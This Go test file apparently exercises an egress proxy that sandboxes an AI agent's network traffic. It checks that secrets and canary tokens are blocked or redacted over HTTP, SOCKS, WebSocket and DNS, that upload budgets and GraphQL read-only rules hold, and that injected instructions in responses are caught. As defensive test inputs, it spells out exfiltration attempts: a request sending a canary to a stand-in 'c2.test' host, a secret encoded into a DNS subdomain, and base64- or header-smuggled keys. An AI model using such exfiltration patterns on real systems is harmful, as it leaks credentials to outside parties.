package egress_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	"golang.org/x/net/dns/dnsmessage"

	"github.com/claude-bottle/claude-bottle/internal/audit"
	"github.com/claude-bottle/claude-bottle/internal/egress"
	"github.com/claude-bottle/claude-bottle/internal/policy"
)

// innocent has the form of listed.
const innocent = "Zp4TnC8sWy1KfGd6RvQx3MbJ"

func scanned(edit func(*policy.Scan)) func(*policy.Route) {
	return func(r *policy.Route) { edit(&r.Scan) }
}

// finding waits for an event that holds a finding of the kind, and checks that it gives nothing away.
func (w *world) finding(kind, action string) audit.Event {
	w.t.Helper()
	e := w.event("a "+kind+" that is "+action, func(e audit.Event) bool {
		for _, f := range e.Findings {
			if f.Kind == kind && f.Action == action {
				return true
			}
		}
		return false
	})
	for _, f := range e.Findings {
		for _, text := range []string{f.Name, f.Where, f.Via, f.Digest, f.Excerpt, e.Why, e.Path, e.Host} {
			for _, v := range []string{listed, bait, realKey} {
				if strings.Contains(text, v[:12]) {
					w.t.Errorf("the event gives %q away: %+v", v, e)
				}
			}
		}
	}
	return e
}

func TestC01C10WhatCarriesASecretIsRefusedOnEveryWay(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	at := w.lookup("ok.test", 443)
	for name, c := range map[string]*http.Client{"proxy": w.client(), "socks": w.socksClient(), "direct": w.directClient(at)} {
		for v, kind := range map[string]string{listed: "known", bait: "canary", realKey: "known", innocent: ""} {
			for _, send := range []func() (*http.Response, string){
				func() (*http.Response, string) {
					return get(t, c, "https://ok.test/?q="+base64.StdEncoding.EncodeToString([]byte(v)))
				},
				func() (*http.Response, string) {
					return do(t, c, "GET", "https://ok.test/", http.Header{"X-Note": {v}})
				},
				func() (*http.Response, string) {
					return post(t, c, "https://ok.test/api/x", "text/plain", "see "+v, nil)
				},
			} {
				res, body := send()
				if kind == "" {
					if res.StatusCode != 200 {
						t.Errorf("%s: %q: %d %s", name, v, res.StatusCode, body)
					}
					continue
				}
				refused(t, res, body, "carries")
				if strings.Contains(body, v) {
					t.Errorf("%s: the denial tells the value: %s", name, body)
				}
			}
		}
	}
	w.finding("known", "blocked")
	w.finding("canary", "blocked")
	for _, v := range []string{listed, bait, realKey, base64.StdEncoding.EncodeToString([]byte(listed))} {
		if strings.Contains(w.ok.text(), v) {
			t.Errorf("%q arrived", v)
		}
	}
}

func post(t testing.TB, c *http.Client, url, kind, body string, h http.Header) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for name, values := range h {
		req.Header[name] = values
	}
	req.Header.Set("Content-Type", kind)
	return answerTo(t, c, req)
}

// Whoever asks for what is denied anyway still gives away that they read the canary.
func TestC10TheCanaryIsNoticedWhereverItWasToGo(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	res, body := do(t, w.client(), "GET", "http://c2.test/?k="+bait, nil)
	refused(t, res, body, "no rule of this bottle names the host")
	if e := w.finding("canary", "blocked"); e.Host != "c2.test" {
		t.Errorf("%+v", e)
	}
	w.untouched()
}

func TestASecretAmongAConversationIsOverwritten(t *testing.T) {
	t.Parallel()
	w := newWorld(t, []policy.Route{route(t, "llm", "llm.test", auth(policy.SchemeBearer), scanned(func(s *policy.Scan) { s.Model = true }))})
	sent := `{"messages":[{"role":"user","content":"env says LISTED=` + listed + ` and ` + bait + `"}]}`
	res, body := post(t, w.client(), "https://llm.test/echo", "application/json", sent, http.Header{"Authorization": {"Bearer " + placeholder}})
	want := strings.NewReplacer(listed, "(redacted:LISTED)*******", bait, "(redacted:BAIT)*****").Replace(sent)
	if res.StatusCode != 200 || body != want {
		t.Errorf("%d %s\nwant %s", res.StatusCode, body, want)
	}
	w.finding("known", "redacted")
	w.finding("canary", "redacted")
}

// A long upload is refused where the secret is, and never complete for its upstream.
func TestC07ALongUploadIsLookedAtToItsEnd(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	for _, length := range []int64{0, -1} {
		text := strings.Repeat("some words and no more\n", 200_000) + listed
		req, err := http.NewRequest(http.MethodPost, "https://ok.test/api/sink", strings.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		if length < 0 {
			req.ContentLength = -1
		}
		res, err := w.client().Do(req)
		if err == nil {
			body, _ := io.ReadAll(res.Body) // the status tells
			_ = res.Body.Close()
			if res.StatusCode != http.StatusForbidden {
				t.Errorf("length %d: %d %s", length, res.StatusCode, body)
			}
		}
		w.finding("known", "blocked")
	}
}

func TestC04ACodingNobodyKnowsIsRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	res, body := post(t, w.client(), "https://ok.test/api/x", "text/plain", "?", http.Header{"Content-Encoding": {"x-foo"}})
	refused(t, res, body, "can't be looked into")
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, err := io.WriteString(z, "see "+listed)
	if err = errors.Join(err, z.Close()); err != nil {
		t.Fatal(err)
	}
	res, body = post(t, w.client(), "https://ok.test/api/x", "text/plain", b.String(), http.Header{"Content-Encoding": {"gzip"}})
	refused(t, res, body, "LISTED")
	w.untouched()
}

func TestC14ABudgetIsNotGonePast(t *testing.T) {
	t.Parallel()
	w := newWorld(t, []policy.Route{route(t, "ok", "ok.test", scanned(func(s *policy.Scan) { s.Budget = 1 << 20 }))})
	words := strings.Repeat("some words and no more\n", 16_000)
	for i, want := range []int{200, 200, 403, 403} {
		res, body := post(t, w.client(), "https://ok.test/api/sink", "text/plain", words, nil)
		if res.StatusCode != want {
			t.Errorf("upload %d: %d %s", i, res.StatusCode, body)
		}
	}
	req, _ := http.NewRequest(http.MethodPost, "https://ok.test/api/sink", struct{ io.Reader }{strings.NewReader(strings.Repeat(words, 4))})
	if res, err := w.client().Do(req); err == nil {
		_ = res.Body.Close()
		if res.StatusCode != http.StatusForbidden {
			t.Errorf("an upload of unknown length: %d", res.StatusCode)
		}
	}
	w.finding("volume", "blocked")
}

func TestC09AnEchoInABodyIsCutOut(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	h := http.Header{"Authorization": {"Bearer " + placeholder}}
	for _, path := range []string{"/reflect", "/reflect-gzip"} {
		res, body := do(t, w.client(), "GET", "https://llm.test"+path, h)
		if want := `{"Authorization": "Bearer ` + strings.Repeat("*", len(realKey)) + `"}`; res.StatusCode != 200 || body != want {
			t.Errorf("%s: %d %q", path, res.StatusCode, body)
		}
	}
	w.finding("echo", "redacted")
}

func TestOrdersInAnAnswerAreRefusedWhereThatIsAsked(t *testing.T) {
	t.Parallel()
	for mode, status := range map[policy.Mode]int{policy.Enforce: 403, policy.Warn: 200, "": 200} {
		w := newWorld(t, []policy.Route{route(t, "ok", "ok.test", scanned(func(s *policy.Scan) { s.Injection = mode }))})
		res, body := get(t, w.client(), "https://ok.test/orders")
		if res.StatusCode != status || strings.Contains(body, "IGNORE") != (status == 200) {
			t.Errorf("%q: %d %s", mode, res.StatusCode, body)
		}
		action := "warned"
		if status == 403 {
			action = "blocked"
		}
		w.finding("orders", action)
	}
}

func TestB10AWebSocketThatCarriesASecretIsEnded(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	for _, mode := range []websocket.CompressionMode{websocket.CompressionDisabled, websocket.CompressionContextTakeover} {
		hc := w.client()
		hc.Timeout = 0
		c, _, err := websocket.Dial(ctx, "wss://ok.test/ws", &websocket.DialOptions{HTTPClient: hc, CompressionMode: mode, CompressionThreshold: 1})
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Write(ctx, websocket.MessageText, []byte("hello "+innocent)); err != nil {
			t.Fatal(err)
		}
		if _, got, err := c.Read(ctx); err != nil || string(got) != "hello "+innocent {
			t.Fatalf("%q, %v", got, err)
		}
		if err := c.Write(ctx, websocket.MessageText, []byte("hello "+listed)); err != nil {
			t.Fatal(err)
		}
		_, got, err := c.Read(ctx)
		if websocket.CloseStatus(err) != websocket.StatusPolicyViolation {
			t.Errorf("%q, %v", got, err)
		}
		_ = c.CloseNow()
		w.finding("known", "blocked")
	}
}

func TestC09AnEchoInAWebSocketsMessageIsCutOut(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	hc := w.client()
	hc.Timeout = 0
	c, _, err := websocket.Dial(ctx, "wss://llm.test/ws-tells", &websocket.DialOptions{
		HTTPClient: hc, HTTPHeader: http.Header{"Authorization": {"Bearer " + placeholder}}, CompressionMode: websocket.CompressionContextTakeover,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.CloseNow() }()
	c.SetReadLimit(1 << 20)
	masked := "Bearer " + strings.Repeat("*", len(realKey))
	for _, want := range []string{"you are " + masked, strings.Repeat("so ", 64<<10) + masked} {
		if _, got, err := c.Read(ctx); err != nil || string(got) != want {
			t.Fatalf("%.50q of %d bytes, %v", got, len(got), err)
		}
	}
	// Of a credential that lies on the border of what is looked at together the beginning is gone.
	_, r, err := c.Reader(ctx)
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(r)
	if websocket.CloseStatus(err) != websocket.StatusPolicyViolation || strings.Contains(string(got), realKey) {
		t.Errorf("%d bytes, %v", len(got), err)
	}
	w.finding("echo", "redacted")
	w.event("the end", func(e audit.Event) bool {
		return e.Verdict == "deny" && strings.Contains(e.Why, "carries the injected credential")
	})
}

// A conversation with a model that quotes a secret goes on without it, however the client likes to
// compress.
func TestC03AConversationOverAWebSocketGoesOnWithoutTheSecret(t *testing.T) {
	t.Parallel()
	w := newWorld(t, []policy.Route{route(t, "model", "ok.test", func(r *policy.Route) { r.Scan.Model = true })})
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	encoded := base64.StdEncoding.EncodeToString([]byte(listed))
	padding := strings.Repeat(" and so on", 20_000) // in several parts
	for _, mode := range []websocket.CompressionMode{websocket.CompressionDisabled, websocket.CompressionContextTakeover} {
		hc := w.client()
		hc.Timeout = 0
		c, _, err := websocket.Dial(ctx, "wss://ok.test/ws", &websocket.DialOptions{HTTPClient: hc, CompressionMode: mode, CompressionThreshold: 1})
		if err != nil {
			t.Fatal(err)
		}
		c.SetReadLimit(1 << 20)
		for _, said := range []string{
			`{"input":"the key is ` + listed + `"}`, `{"input":"in base64 it is ` + encoded + `"}`, `{"input":"` + bait + `"}`,
			`{"input":"the key is ` + listed + padding + listed + `"}`, `{"input":"` + innocent + `"}`,
		} {
			if err := c.Write(ctx, websocket.MessageText, []byte(said)); err != nil {
				t.Fatal(err)
			}
			_, got, err := c.Read(ctx)
			if err != nil {
				t.Fatalf("%.50q: %v", said, err)
			}
			for _, secret := range []string{listed, encoded, bait} {
				if strings.Contains(string(got), secret) {
					t.Errorf("%.50q arrived as %.50q", said, got)
				}
			}
			if len(got) != len(said) || !json.Valid(got) || strings.Contains(said, innocent) != (string(got) == said) {
				t.Errorf("%.50q arrived as %.50q", said, got)
			}
		}
		if err := c.Close(websocket.StatusNormalClosure, ""); err != nil {
			t.Error(err)
		}
	}
	w.event("redacted", func(e audit.Event) bool {
		return e.Status == 101 && e.Verdict == "allow" && len(e.Findings) >= 5 && e.Findings[0].Action == "redacted"
	})
	if seen := w.ok.text(); strings.Contains(seen, "permessage-deflate") {
		t.Errorf("compression was offered:\n%s", seen)
	}
}

func TestANameThatIsASecretIsNotResolved(t *testing.T) {
	t.Parallel()
	w := newWorld(t, standard(t))
	if m := w.ask(strings.ToLower(listed)+".wild.test.", dnsmessage.TypeA); m.RCode != dnsmessage.RCodeNameError {
		t.Errorf("%+v", m)
	}
	if m := w.ask(strings.ToLower(innocent)+".wild.test.", dnsmessage.TypeA); m.RCode != dnsmessage.RCodeSuccess {
		t.Errorf("%+v", m)
	}
	w.finding("known", "blocked")
}

func TestC13AGraphQLRuleLetsReadAndNotWrite(t *testing.T) {
	t.Parallel()
	w := newWorld(t, []policy.Route{route(t, "gql", "ok.test", matches(policy.Match{
		Methods: []string{"POST"}, Paths: []policy.PathMatch{{Type: policy.PathExact, Value: "/echo"}}, GraphQL: policy.GraphQLQuery,
	}))})
	for body, ok := range map[string]bool{
		`{"query":"query { viewer { login } }"}`:                                                                         true,
		`{"query":"{ viewer { login } }","variables":{"a":"mutation"}}`:                                                  true,
		`{"query":"# mutation\nquery Q($a: Int = 1) @x(s: \"}{\") { a(b: {c: 1}) ...F }  fragment F on T { mutation }"}`: true,
		`{"query":"mutation { addStar }"}`:                                                                               false,
		`{"query":"query A { a } mutation B { b }","operationName":"A"}`:                                                 false,
		`{"query":"subscription { x }"}`:                                                                                 false,
		`{"query":"query { a }","query":"mutation { b }"}`:                                                               false,
		`{"query":"query { a }","Query":"mutation { b }"}`:                                                               false,
		`{"extensions":{"persistedQuery":{"sha256Hash":"00"}}}`:                                                          false,
		`[{"query":"query { a }"}]`:                                                                                      false,
		`{"query":"query { a }"} {"query":"mutation { b }"}`:                                                             false,
		`{"query":"\"\"\" query \"\"\" mutation { b }"}`:                                                                 false,
		`{"query":"query { a "}`:                                                                                         false,
		`query { a }`:                                                                                                    false,
	} {
		res, got := post(t, w.client(), "https://ok.test/echo", "application/json", body, nil)
		if ok && (res.StatusCode != 200 || got != body) {
			t.Errorf("%s: %d %s", body, res.StatusCode, got)
		}
		if !ok {
			refused(t, res, got, "GraphQL")
		}
	}
}

func FuzzGraphQL(f *testing.F) {
	f.Add([]byte(`{"query":"query { a }"}`))
	f.Fuzz(func(t *testing.T, body []byte) {
		kind := egress.GraphQLKind(body)
		if kind == "query" && !bytes.Contains(bytes.ToLower(body), []byte("query")) {
			t.Errorf("%q reads", body)
		}
	})
}
